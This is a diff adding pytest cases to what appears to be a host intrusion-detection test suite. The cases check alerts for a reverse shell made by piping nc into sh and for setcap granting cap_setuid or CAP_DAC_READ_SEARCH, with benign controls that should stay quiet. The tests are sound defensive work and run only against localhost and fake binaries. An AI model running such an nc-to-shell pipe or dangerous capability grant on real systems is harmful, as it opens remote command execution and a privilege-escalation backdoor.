@@ -425,6 +425,41 @@ def test_download_piped_into_shell(vd, tmp):
         kill_group(srv)
 
 
+def test_reverse_shell_netclient_pipe(vd, tmp):
+    if not shutil.which("nc"):
+        pytest.skip("nc is not installed")
+    marker = os.path.join(tmp, "owned")
+    srv, port = listener()
+
+    def serve(payload):
+        c, _ = srv.accept()
+        c.sendall(payload)
+        time.sleep(0.3)
+        c.close()
+
+    import threading
+    t = threading.Thread(target=serve, args=(f"touch {marker}\n".encode(),))
+    t.start()
+    pid, _, _ = run(["bash", "-c", f"nc 127.0.0.1 {port} | sh"])
+    t.join()
+    assert os.path.exists(marker)
+    a = expect(vd, "execution/reverse_shell_netclient_pipe", sid=pid)
+    names = sorted(get(e, "process.name") for e in a["events"])
+    assert "nc" in names and "sh" in names, names
+
+    # benign: what nc receives goes to cat; a command piped into nc
+    t = threading.Thread(target=serve, args=(b"hello\n",))
+    t.start()
+    b1, _, _ = run(["bash", "-c", f"nc 127.0.0.1 {port} | cat >/dev/null"])
+    t.join()
+    t = threading.Thread(target=serve, args=(b"",))
+    t.start()
+    b2, _, _ = run(["bash", "-c", f"echo ping | nc -N 127.0.0.1 {port} >/dev/null"])
+    t.join()
+    srv.close()
+    assert_quiet(vd, sids=[b1, b2])
+
+
 def test_fileless_execution(vd, tmp):
     pid, rc, out = run_json([helper("memfd_exec")])
     assert rc == 0 and out["pid"] == pid
@@ -891,6 +926,21 @@ def test_sudoers_dropin_and_immutable_attribute(vd, tmp):
     # benign: removing the attribute, and an unrelated one (nodump, no atime)
     b2, _, _ = run([chattr, "-i", target])
     b3, _, _ = run([chattr, "+dA", target])
+    assert_quiet(vd, pids=[b1, b2, b3], sids=[b1, b2, b3])
+
+
+def test_setcap_dangerous_capability(vd, tmp):
+    # played by a copy of /bin/true: a real cap_setuid binary would be a backdoor
+    setcap = fake_tool(tmp, "setcap")
+    target = fake_tool(tmp, "python3")
+    pid, _, _ = run([setcap, "cap_setuid+ep", target])
+    expect(vd, "privilege_escalation/setcap_dangerous_capability", pid=pid, sid=pid)
+    pid2, _, _ = run([setcap, "CAP_DAC_READ_SEARCH,cap_net_raw=eip", target])
+    expect(vd, "privilege_escalation/setcap_dangerous_capability", pid=pid2, sid=pid2)
+    # benign: what packages do (ping, a server binding a low port), and removal
+    b1, _, _ = run([setcap, "cap_net_raw+ep", target])
+    b2, _, _ = run([setcap, "cap_net_bind_service=+ep", target])
+    b3, _, _ = run([setcap, "-r", target])
     assert_quiet(vd, pids=[b1, b2, b3], sids=[b1, b2, b3])
 
 
